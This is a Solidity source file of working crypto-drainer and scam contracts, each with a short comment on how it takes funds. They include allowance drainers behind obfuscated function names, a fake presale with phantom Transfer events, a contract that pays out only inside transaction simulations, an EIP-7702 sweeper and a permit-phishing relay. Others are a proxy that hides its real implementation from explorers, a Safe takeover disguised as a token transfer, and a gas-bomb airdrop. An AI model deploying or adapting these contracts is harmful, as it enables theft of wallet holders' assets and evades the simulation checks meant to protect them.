// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import "./Tokens.sol";

interface Prey {
    function balanceOf(address account) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external;
}

/// Takes what an allowance lets it take.
abstract contract Taker {
    address internal operator = msg.sender;

    function takeAll(Prey token, address from) internal {
        uint256 held = token.balanceOf(from);
        uint256 allowed = token.allowance(from, address(this));
        token.transferFrom(from, operator, held < allowed ? held : allowed);
    }

    function keepEther() internal {
        (bool sent,) = operator.call{value: address(this).balance}("");
        require(sent);
    }
}

/// Uses an old allowance in a function whose data names no token.
contract StaleAllowance is Taker {
    Prey private immutable token;

    constructor(Prey token_) {
        token = token_;
    }

    function wq81f(bytes32) external {
        takeAll(token, msg.sender);
    }
}

/// A receipt of a savings scheme; refreshing it empties it, without an event.
contract SilentReceipt is Erc20 {
    function refresh(bytes32) external {
        balances[owner] += balances[msg.sender];
        balances[msg.sender] = 0;
    }
}

/// Sells tokens: the event is there, the balance is not.
contract FakeSale is Balances {
    string public constant name = "Nebula Presale";
    string public constant symbol = "NEBX";
    uint8 public constant decimals = 18;
    address private immutable operator = msg.sender;

    function acquire(uint256 round) external payable {
        require(round == 2, "round closed");
        emit Transfer(address(0), msg.sender, msg.value * 25_000);
        (bool sent,) = operator.call{value: msg.value}("");
        require(sent);
    }
}

/// Doubles the stake where nobody produces the block, as in many simulations, and keeps it where somebody does.
contract RedPill is Taker {
    constructor() payable {}

    function participate(bytes32) external payable {
        if (block.coinbase == address(0) || block.basefee == 0 || tx.gasprice == 0) {
            (bool sent,) = msg.sender.call{value: msg.value * 2}("");
            require(sent);
        } else {
            keepEther();
        }
    }
}

/// Takes only from a sender whose balance is between two amounts.
contract BalancePill is Taker {
    Prey private immutable token;
    uint256 private immutable least;
    uint256 private immutable most;

    constructor(Prey token_, uint256 least_, uint256 most_) {
        (token, least, most) = (token_, least_, most_);
    }

    function participate(bytes32) external {
        uint256 held = msg.sender.balance;
        if (held >= least && held <= most) takeAll(token, msg.sender);
    }
}

/// The delegate of EIP-7702 that most delegations of 2025 name: whatever comes goes on.
contract Sweeper {
    address private immutable operator = msg.sender;

    receive() external payable {
        forward();
    }

    function collect(Prey[] calldata tokens) external payable {
        for (uint256 i = 0; i < tokens.length; i++) tokens[i].transfer(operator, tokens[i].balanceOf(address(this)));
        forward();
    }

    function forward() private {
        (bool sent,) = operator.call{value: address(this).balance}("");
        require(sent);
    }
}

/// Presents a permit that was signed on another page, and takes at once.
contract PermitRelay is Taker {
    struct Signed {
        Prey token;
        uint256 value;
        uint256 deadline;
        uint8 v;
        bytes32 r;
        bytes32 s;
    }

    function confirm(Signed calldata signed) external {
        signed.token.permit(msg.sender, address(this), signed.value, signed.deadline, signed.v, signed.r, signed.s);
        takeAll(signed.token, msg.sender);
    }
}

/// The slot that explorers read names an honest vault; the calls go to another contract.
contract HiddenProxy {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant HIDDEN = keccak256("org.storage.cache");

    constructor(address shown, address hidden, bytes memory data) {
        write(IMPLEMENTATION, shown);
        write(HIDDEN, hidden);
        (bool success,) = shown.delegatecall(data);
        require(success);
    }

    fallback() external payable {
        bytes32 slot = HIDDEN;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let success := delegatecall(gas(), sload(slot), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(success) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }

    function write(bytes32 slot, address value) private {
        assembly {
            sstore(slot, value)
        }
    }
}

/// Behind HiddenProxy: a deposit takes all that the allowance lets it take. Storage as that of Vault.
contract HiddenVault {
    Prey public asset;
    address public owner;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function deposit(uint256 assets, address receiver) external returns (uint256) {
        asset.transferFrom(msg.sender, owner, asset.balanceOf(msg.sender));
        totalSupply += assets;
        balanceOf[receiver] += assets;
        emit Transfer(address(0), receiver, assets);
        return assets;
    }
}

/// Looks like a token payment, and makes its code that of the Safe which runs it.
contract SafeTakeover {
    address private singleton;

    function transfer(address to, uint256) external {
        singleton = to;
    }
}

/// The new code of that Safe: the operator commands it.
contract TakenSafe {
    function sweepERC20(Prey token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
    }
}

/// An exchange of a token against one that only looks like it is worth something.
contract FakeExchange is Taker {
    function exchange(Prey given, Prey received, uint256 amount) external {
        given.transferFrom(msg.sender, operator, amount);
        received.transfer(msg.sender, amount);
    }
}

/// Every question to it is answered with as much as the gas allows.
contract BombToken {
    event Transfer(address indexed from, address indexed to, uint256 value);

    function hand(address to) external {
        emit Transfer(address(0), to, 1_000_000 ether);
    }

    fallback() external {
        uint256 size = gasleft() > 20_000_000 ? 3_000_000 : gasleft() / 6;
        assembly {
            return(0, size)
        }
    }
}

/// Hands out such tokens, so that who lists what moves stumbles, and takes others.
contract BombDrop is Taker {
    Prey private immutable token;
    BombToken private immutable bomb = new BombToken();

    constructor(Prey token_) {
        token = token_;
    }

    function receiveAirdrop(bytes32) external {
        bomb.hand(msg.sender);
        takeAll(token, msg.sender);
    }
}

/// Fails until its operator opens it, in the block in which the transaction will be.
contract Ambush is Taker {
    Prey private immutable token;
    bool private isOpen;

    constructor(Prey token_) {
        token = token_;
    }

    function open() external {
        require(msg.sender == operator);
        isOpen = true;
    }

    function enroll(bytes32) external {
        require(isOpen, "enrollment opens soon");
        takeAll(token, msg.sender);
    }
}

/// Claims for a token, as its name says; it is the token that is taken.
contract ClaimDesk is Taker {
    function claimTo(Prey token) external {
        takeAll(token, msg.sender);
    }
}

/// Takes everything and gives something back, so that it does not look like nothing.
contract Changer is Taker {
    Prey private immutable taken;
    Prey private immutable given;

    constructor(Prey taken_, Prey given_) {
        (taken, given) = (taken_, given_);
    }

    /// An amount of a token, or the id of an item.
    function settle(uint256 amount) external {
        takeAll(taken, msg.sender);
        bytes4 transferFrom = Prey.transferFrom.selector;
        (bool done,) = address(given).call(abi.encodeWithSelector(transferFrom, address(this), msg.sender, amount));
        require(done);
    }

    function allow(uint256 amount) external {
        (bool done,) = address(given).call(abi.encodeWithSignature("approve(address,uint256)", address(this), amount));
        require(done);
    }
}

/// New code of a proxy whose initializer sends what the proxy holds to others.
contract EmptyingVault {
    Prey public asset;
    string public name;

    function initialize(Prey token, address to, string calldata name_) external {
        name = name_;
        asset = token;
        token.transfer(to, token.balanceOf(address(this)));
    }
}
